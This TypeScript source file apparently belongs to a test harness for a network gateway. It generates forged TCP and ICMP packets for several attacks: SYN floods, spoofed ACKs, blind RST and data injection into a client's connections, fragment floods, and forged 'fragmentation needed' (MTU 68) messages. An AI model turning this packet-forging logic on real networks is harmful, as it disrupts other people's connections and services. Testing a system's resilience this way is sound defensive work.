/**
 * The packets of each attack: written into a batch, one after the other, by number, so that a run can be repeated. What an attacker
 * knows of others' connections is given: addresses and ports, never numbers. Attacks over connections of one's own are in
 * `own-connections.ts`.
 */
import type { PacketBatch } from '../../node/tun/packet-batch.ts'
import { sumOctets } from '../../node/wire/checksum.ts'
import { createTcpHeader, packetHeadOctets, type TcpHeader, writeTcpPacket } from '../../node/wire/emit.ts'
import { PROTOCOL_ICMP, PROTOCOL_TCP, writeIpv4Header } from '../../node/wire/ip.ts'
import { ACK, PSH, RST, SYN } from '../../node/wire/segment.ts'
import { VIRTIO_HEADER_OCTETS } from '../../node/wire/virtio.ts'

/** 198.18.0.0/15 (RFC 2544): nobody's; forged are the even ones of it. */
export const NETWORK = 0xc6120000
const NETWORK_MASK = (1 << 17) - 2
const IPV4_OCTETS = 20
const MORE_FRAGMENTS = 0x2000
const ICMP_HEAD_OCTETS = 8
const DESTINATION_UNREACHABLE = 3
const FRAGMENTATION_NEEDED = 4
const PORT_UNREACHABLE = 3
/** A TCP header with timestamps and nothing else, as of every segment of an established connection. */
const QUOTED_TCP_OCTETS = 32
/** Two NOPs, kind and length (RFC 7323 §3.2). */
const TIMESTAMPS = 0x0101080a
const QUOTING_OCTETS = ICMP_HEAD_OCTETS + IPV4_OCTETS + QUOTED_TCP_OCTETS
/** What the quoted packet says of its length. */
const FULL_SEGMENT_OCTETS = 1_480
const TTL = 64
/** RFC 791: the least that every link carries. */
const LEAST_MTU = 68

/** What an attacker knows. */
export interface Target {
  readonly vip: number
  readonly port: number
  /** The client whose downloads are to be disturbed. */
  readonly client: number
  readonly clientPorts: readonly number[]
  readonly nodes: readonly number[]
}

export const SPOOFED = ['syn', 'ack', 'tsecr', 'blind', 'fragments', 'icmp', 'vip'] as const
export type Spoofed = (typeof SPOOFED)[number]

/** Where packet `number` differs from those of a plain acknowledgement from a forged address; returns octets of payload. */
const SHAPES: Readonly<Record<Spoofed, (header: TcpHeader, number: number, target: Target) => number>> = {
  syn: header => {
    Object.assign(header, { flags: SYN, ack: 0, mss: 1_460, windowScale: 7, sackPermitted: true })
    header.hasTimestamps = true
    return 0
  },
  ack: () => 0,
  tsecr: (header, number, { nodes }) => {
    name(header, number, nodes)
    return 0
  },
  blind: (header, number, target) => {
    fromClient(header, number, target)
    const kind = number % 4
    if (kind !== 0) name(header, number >> 2, target.nodes)
    header.flags = kind < 2 ? RST : kind === 2 ? SYN : ACK | PSH
    return kind === 3 ? 1 : 0
  },
  fragments: () => 8,
  icmp: () => 0,
  vip: (header, number, { vip, nodes }) => {
    header.src3 = vip
    if (number % 2 === 0) header.flags = SYN
    else name(header, number >> 1, nodes)
    return 0
  },
}

/** So that the gateway takes the packet to this node. */
function name(header: TcpHeader, number: number, nodes: readonly number[]): void {
  header.hasTimestamps = true
  header.tsVal = number
  header.tsEcr = (mix(number + 7) & ~0xff) | (nodes[number % nodes.length] ?? 0)
}

function fromClient(header: TcpHeader, number: number, { client, clientPorts }: Target): void {
  header.src3 = client
  header.srcPort = clientPorts[(number >> 2) % clientPorts.length] ?? 0
}

export class SpoofedPackets {
  readonly #kind: Spoofed
  readonly #target: Target
  readonly #header = createTcpHeader()

  constructor(kind: Spoofed, target: Target) {
    this.#kind = kind
    this.#target = target
  }

  /** Appends packet `number`; false where the batch is full. */
  write(batch: PacketBatch, number: number): boolean {
    if (this.#kind === 'icmp') return this.#writeIcmp(batch, number)
    const header = this.#header
    const { vip, port } = this.#target
    const source = {
      src2: 0xffff,
      src3: (NETWORK + (mix(number) & NETWORK_MASK)) | 0,
      srcPort: 1_024 + (number % 60_000),
    }
    Object.assign(header, { ...source, dst2: 0xffff, dst3: vip, dstPort: port, window: 64_240 })
    Object.assign(header, { seq: mix(number + 1), ack: mix(number + 2), flags: ACK, hasTimestamps: false })
    header.payloadLength = SHAPES[this.#kind](header, number, this.#target)
    const octets = packetHeadOctets(header)
    if (!batch.fits(octets + header.payloadLength, 0)) return false
    const at = batch.begin(octets + header.payloadLength)
    writeTcpPacket(batch.arena, batch.view, at, header)
    if (this.#kind === 'fragments') makeFragment(batch.view, at)
    return true
  }

  /** "Too big" and "port unreachable" for segments that the server may have sent, from routers that may be on the way. */
  #writeIcmp(batch: PacketBatch, number: number): boolean {
    const octets = VIRTIO_HEADER_OCTETS + IPV4_OCTETS + QUOTING_OCTETS
    if (!batch.fits(octets, 0)) return false
    const { view } = batch
    const { vip, port, client, clientPorts, nodes } = this.#target
    const at = batch.begin(octets)
    const ip = at + VIRTIO_HEADER_OCTETS
    for (let octet = at; octet < at + octets; octet++) view.setUint8(octet, 0)
    const router = (NETWORK + (mix(number) & NETWORK_MASK)) | 0
    writeIpv4Header(view, ip, router, vip, PROTOCOL_ICMP, 0, TTL, QUOTING_OCTETS)
    const icmp = ip + IPV4_OCTETS
    view.setUint8(icmp, DESTINATION_UNREACHABLE)
    view.setUint8(icmp + 1, number % 2 === 0 ? FRAGMENTATION_NEEDED : PORT_UNREACHABLE)
    if (number % 2 === 0) view.setUint16(icmp + 6, LEAST_MTU)
    const quoted = icmp + ICMP_HEAD_OCTETS
    writeIpv4Header(view, quoted, vip, client, PROTOCOL_TCP, 0, TTL, FULL_SEGMENT_OCTETS)
    const tcp = quoted + IPV4_OCTETS
    view.setUint16(tcp, port)
    view.setUint16(tcp + 2, clientPorts[(number >> 1) % clientPorts.length] ?? 0)
    view.setInt32(tcp + 4, mix(number + 1))
    view.setInt32(tcp + 8, mix(number + 2))
    view.setInt32(tcp + 12, (QUOTED_TCP_OCTETS << 26) | (ACK << 16) | 0xffff | 0)
    view.setInt32(tcp + 20, TIMESTAMPS)
    view.setInt32(tcp + 24, (mix(number + 7) & ~0xff) | (nodes[number % nodes.length] ?? 0))
    view.setUint16(icmp + 2, ~sumOctets(view, icmp, QUOTING_OCTETS, 0) & 0xffff)
    return true
  }
}

function makeFragment(view: DataView, at: number): void {
  const ip = at + VIRTIO_HEADER_OCTETS
  // The kernel cannot complete the sum of a part.
  view.setUint8(at, 0)
  view.setUint16(ip + 6, MORE_FRAGMENTS)
  view.setUint16(ip + 10, 0)
  view.setUint16(ip + 10, ~sumOctets(view, ip, IPV4_OCTETS, 0) & 0xffff)
}

/** A number that follows from another, and looks like any. */
export function mix(number: number): number {
  let x = Math.imul(number ^ (number >>> 16), 0x45d9f3b)
  x = Math.imul(x ^ (x >>> 16), 0x45d9f3b)
  return x ^ (x >>> 16)
}
